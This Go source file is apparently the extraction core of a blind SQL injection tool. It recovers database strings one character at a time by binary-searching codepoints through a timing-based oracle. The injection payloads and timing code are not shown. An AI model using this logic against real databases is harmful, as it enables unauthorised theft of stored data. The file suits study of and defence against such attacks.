// Package extract recovers string values one character at a time through
// a timing oracle. The binary-search extractor is the production path;
// the linear extractor exists for benchmark comparison.
package extract

import (
	"context"
	"fmt"
	"strings"

	"github.com/0x6d61/timeleech/internal/dbms"
)

// Printable codepoint range searched for each character.
const (
	asciiLow  = 32
	asciiHigh = 126
)

// terminators end a string when extracted.
const terminators = "\x00\n\r"

// Oracle answers SQL boolean predicates. Implementations decide through
// request latency; tests substitute pure functions.
type Oracle interface {
	EvaluateAt(ctx context.Context, position int, predicate string) bool
}

// CharExtractor is the capability shared by extraction strategies
// (binary, linear, future n-ary search).
type CharExtractor interface {
	// ExtractCharacter recovers the character at a 1-indexed position.
	// ok is false when the position is past the end of the string or the
	// character could not be determined.
	ExtractCharacter(ctx context.Context, position int) (ch byte, ok bool)
}

// Target names the string to extract: SELECT Column FROM Table WHERE
// Where, first row.
type Target struct {
	Table  string
	Column string
	Where  string
}

// Step is one recorded extraction decision.
type Step struct {
	Position  int    `json:"position"`
	Predicate string `json:"predicate"`
	Decision  bool   `json:"decision"`
}

// BinaryExtractor recovers one byte per position in about ⌈log₂ 95⌉
// oracle calls by binary search over the printable codepoint range,
// followed by a short candidate-verification pass that absorbs single
// wrong oracle answers.
type BinaryExtractor struct {
	oracle  Oracle
	dialect dbms.Dialect
	target  Target

	// Trace enables per-decision step records.
	Trace bool

	// OnProgress, when set, receives a line per extracted character.
	OnProgress func(msg string)

	steps   []Step
	queries int64
}

// NewBinaryExtractor creates a BinaryExtractor for one target string.
func NewBinaryExtractor(o Oracle, dialect dbms.Dialect, target Target) *BinaryExtractor {
	return &BinaryExtractor{
		oracle:  o,
		dialect: dialect,
		target:  target,
	}
}

// codepointExpr builds the integer-valued SQL expression for the
// codepoint at a position of the target string.
func (e *BinaryExtractor) codepointExpr(position int) string {
	query := e.dialect.SelectScalar(e.target.Table, e.target.Column, e.target.Where)
	return e.dialect.CodepointAt(query, position)
}

// ask consults the oracle and records the decision.
func (e *BinaryExtractor) ask(ctx context.Context, position int, predicate string) bool {
	decision := e.oracle.EvaluateAt(ctx, position, predicate)
	e.queries++
	if e.Trace {
		e.steps = append(e.steps, Step{
			Position:  position,
			Predicate: predicate,
			Decision:  decision,
		})
	}
	return decision
}

// ExtractCharacter recovers the character at a 1-indexed position.
//
// Binary search maintains the invariant that every codepoint in
// [low-1, high] is consistent with the decisions so far; on termination
// high is the greatest value for which χ(p) ≥ high tested true. Because
// individual oracle decisions can be wrong, the candidates high+1, high
// and high-1 are then re-tested with equality predicates in descending
// order; the first confirmed one wins. When none confirms, high is kept
// if printable; a high below the printable range means end-of-string.
func (e *BinaryExtractor) ExtractCharacter(ctx context.Context, position int) (byte, bool) {
	chi := e.codepointExpr(position)

	low, high := asciiLow, asciiHigh
	for low <= high {
		if ctx.Err() != nil {
			return 0, false
		}
		mid := (low + high) / 2
		if e.ask(ctx, position, fmt.Sprintf("%s >= %d", chi, mid)) {
			low = mid + 1
		} else {
			high = mid - 1
		}
	}

	for _, k := range []int{high + 1, high, high - 1} {
		if k < asciiLow || k > asciiHigh {
			continue
		}
		if ctx.Err() != nil {
			return 0, false
		}
		if e.ask(ctx, position, fmt.Sprintf("%s = %d", chi, k)) {
			return byte(k), true
		}
	}

	if high >= asciiLow && high <= asciiHigh {
		return byte(high), true
	}
	return 0, false
}

// ExtractString recovers the target string up to maxLength characters,
// scanning positions in ascending order. Extraction stops at the first
// undetermined position or terminator; terminators are trimmed from the
// tail, so the result never contains one.
func (e *BinaryExtractor) ExtractString(ctx context.Context, maxLength int) string {
	var b []byte
	for position := 1; position <= maxLength; position++ {
		ch, ok := e.ExtractCharacter(ctx, position)
		if !ok {
			break
		}
		b = append(b, ch)
		if strings.IndexByte(terminators, ch) >= 0 {
			break
		}
		if e.OnProgress != nil {
			e.OnProgress(fmt.Sprintf("extracted so far: %s", string(b)))
		}
	}
	return strings.TrimRight(string(b), terminators)
}

// Steps returns the recorded decisions. Empty unless Trace is enabled.
func (e *BinaryExtractor) Steps() []Step {
	return e.steps
}

// TotalQueries returns the number of oracle calls made by this extractor.
func (e *BinaryExtractor) TotalQueries() int64 {
	return e.queries
}
